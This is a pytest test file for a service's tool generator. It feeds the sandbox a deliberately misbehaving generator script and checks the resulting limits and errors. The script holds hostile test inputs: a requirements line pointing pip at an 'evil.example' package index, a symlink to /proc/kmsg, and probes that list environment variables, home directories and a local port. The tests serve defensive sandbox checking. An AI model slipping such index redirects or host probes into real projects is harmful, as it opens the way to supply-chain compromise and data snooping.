"""tool generate with an operator's generator: a program in a workspace of its own, whose output is checked and never loaded untested."""
# security: services
import contextlib
import json
import os
import pathlib
import socket
import tempfile

import pytest
from daemons import configure, make_furnished as make_daemon, serving_anew  # noqa: F401
from harness import eventually
from rest import problem

EXAMPLE = pathlib.Path(os.environ.get("TREE", pathlib.Path(__file__).parents[2]), "examples/tools/generator.py")
SPEC = {"name": "greet", "description": "Hello {name}, you are {age}", "arguments": {"name": "Ada \u00fc", "age": 36}}
# It does what the description says.
ODD = """
import json, os, socket, sys, time
spec = json.load(sys.stdin)
do = spec["description"]
write = lambda name, content: open(name, "wb").write(content)
write("tool.py", b"def run():\\n    return 1\\n")
write("test_tool.py", b"def test():\\n    pass\\n")
if do == "exit": sys.exit("the model\\ndoes not answer")
if do == "kill": os.kill(os.getpid(), 9)
if do == "hang": time.sleep(1000)
if do == "flood":
    while True: print("x" * 65536)
if do == "none": os.unlink("tool.py")
if do == "empty": write("test_tool.py", b"")
if do == "large": write("tool.py", b"#" * (1 << 17) + b"#")
if do == "binary": write("tool.py", b"\\xff\\xfe")
if do == "nul": write("tool.py", b"a\\0b")
if do == "link": os.unlink("tool.py"); os.symlink("/proc/kmsg", "tool.py")
if do == "fifo": os.unlink("tool.py"); os.mkfifo("tool.py")
if do == "directory": os.unlink("tool.py"); os.mkdir("tool.py")
if do == "requirement": write("requirements.txt", b"# more\\n\\nidna>=3 # names\\n--index-url http://evil.example\\n")
if do == "more": write("requirements.txt", b"# more\\n\\nidna>=3 # names\\nmarkupsafe")
if do == "look": write("tool.py", json.dumps([spec, sorted(os.environ), os.listdir("/home") if os.path.exists("/home") else []]).encode())
if do == "reach":
    try: socket.create_connection(("127.0.0.1", int(spec["arguments"]["port"])), 5); write("tool.py", b"reached")
    except OSError as error: write("tool.py", b"refused")
"""


def generator(code, more=""):
    return f"tools:\n  generator: [python3, -c, {json.dumps(code)}]\n" + more


@pytest.fixture(scope="module")
def served(furnished_home):
    with serving_anew(source=furnished_home) as daemon:
        yield configure(daemon, generator(ODD))


def left(daemon):
    return daemon.get("/v1/workspaces?label=carrel.service=tools").json()["items"]


def test_a_generator_writes_a_tool_that_is_forged_and_called(make_daemon, tmp_path):
    daemon = configure(make_daemon(), generator(EXAMPLE.read_text()))
    spec = tmp_path / "greet.json"
    spec.write_text(json.dumps(SPEC))
    done = daemon("tool", "generate", spec, "--to", tmp_path)
    assert (done.returncode, done.stdout) == (0, "greet.py\ntest_greet.py\n"), done
    assert not left(daemon) and daemon.get("/v1/tools").json()["items"] == []      # nothing is loaded of it
    assert daemon("tool", "forge", "greet", "--code", tmp_path / "greet.py", "--tests", tmp_path / "test_greet.py").returncode == 0
    assert daemon("tool", "call", "greet", '{"name": "Bob", "age": 7}').stdout == '"Hello Bob, you are 7"\n'
    spec.write_text(json.dumps({**SPEC, "name": "other", "arguments": {}}))
    done = daemon("tool", "generate", spec, "--to", tmp_path)
    assert done.returncode == 125 and "exit code 1: 'other': the names in the description are not the arguments" in done.stderr
    assert not (tmp_path / "other.py").exists()
    assert eventually(lambda: '"tool.generate"' in daemon("audit", "--type", "tool.generate", "-o", "json").stdout)


@pytest.mark.needs_root
@pytest.mark.once
def test_a_generator_that_the_operator_shows(make_daemon):
    with tempfile.TemporaryDirectory(prefix="carrel-generator.", dir="/opt") as name:
        os.chmod(name, 0o755)
        pathlib.Path(name, "main.py").write_text(EXAMPLE.read_text())
        daemon = configure(make_daemon(), f"system:\n  show: [{name}]\ntools:\n  generator: [python3, {name}/main.py]\n")
        made = daemon.post("/v1/tool-sources", SPEC)
        assert made.status == 200 and made.json()["generated"] and "def run(name, age)" in made.json()["code"], made
        daemon.stop_serving()


@pytest.mark.parametrize("do, words", [
    ("exit", "exit code 1: does not answer"), ("kill", "ended: signaled"), ("flood", "ended: output_limit"),
    ("none", "'tool.py'"), ("empty", "'test_tool.py' is empty"), ("binary", "'tool.py' is not a text in UTF-8"),
    ("nul", "'tool.py' is not a text in UTF-8"), ("link", "tool.py"), ("fifo", "tool.py"), ("directory", "tool.py"),
    ("requirement", "'requirements.txt': line 4: '--index-url http://evil.example' is not a requirement")])
@pytest.mark.once
def test_a_generator_that_fails_is_an_error_with_its_reason(served, do, words):
    problem(served.post("/v1/tool-sources", {"name": "x", "description": do}), 500, "failed", words)
    assert not left(served)


@pytest.mark.once
def test_a_generator_that_hangs_ends_by_its_timeout(make_daemon):
    daemon = configure(make_daemon(), generator(ODD, "  generator_timeout: 1s\n"))
    problem(daemon.post("/v1/tool-sources", {"name": "x", "description": "hang"}), 500, "failed", "ended: timeout")
    assert not left(daemon)


@pytest.mark.once
def test_what_is_too_large_is_a_limit(served):
    answer = served.post("/v1/tool-sources", {"name": "x", "description": "large"})
    problem(answer, answer.status, "limit", "'tool.py' has more than 131072 bytes")
    assert not left(served)


def test_a_generator_sees_the_specification_and_nothing_of_the_host(served):
    look = served.post("/v1/tool-sources", {**SPEC, "description": "look", "requires": ["idna"]}).json()
    spec, variables, homes = json.loads(look["code"])
    assert spec == {**SPEC, "description": "look", "requires": ["idna"]} and look["requires"] == ["idna"]
    assert not homes and not [one for one in variables if one.startswith("CARREL")], (homes, variables)
    assert served.post("/v1/tool-sources", {"name": "x", "description": "more"}).json()["requires"] == ["idna>=3", "markupsafe"]
    with contextlib.closing(socket.create_server(("127.0.0.1", 0))) as server:
        made = served.post("/v1/tool-sources", {"name": "x", "description": "reach", "arguments": {"port": str(server.getsockname()[1])}})
        assert made.json()["code"] == "refused"


def test_a_client_that_leaves_ends_the_generator(served):
    connection = served.connection()
    connection.request("POST", "/v1/tool-sources", json.dumps({"name": "x", "description": "hang"}), {"Content-Type": "application/json"})
    assert eventually(lambda: [one["state"] for one in left(served)] == ["running"])
    connection.close()
    assert eventually(lambda: not left(served))


@pytest.mark.once
@pytest.mark.parametrize("body, word", [({}, "name"), ({"name": "A"}, "name"), ({"name": "a", "lang": 1}, "lang"), ({"name": "a", "arguments": {"a b": 1}}, "arguments"),
                                        ({"name": "a", "arguments": [1]}, "arguments"), ({"name": "a", "requires": "x"}, "requires")])
def test_bad_specifications_are_refused_and_named(served, body, word):
    problem(served.post("/v1/tool-sources", body), 400, "invalid", word)


@pytest.mark.once
def test_a_program_that_is_not_there_is_named(make_daemon):
    daemon = configure(make_daemon(), "tools:\n  generator: [no-such-generator]\n")
    problem(daemon.post("/v1/tool-sources", {"name": "x"}), 500, "failed", "run 'no-such-generator': No such file")
    assert not left(daemon)
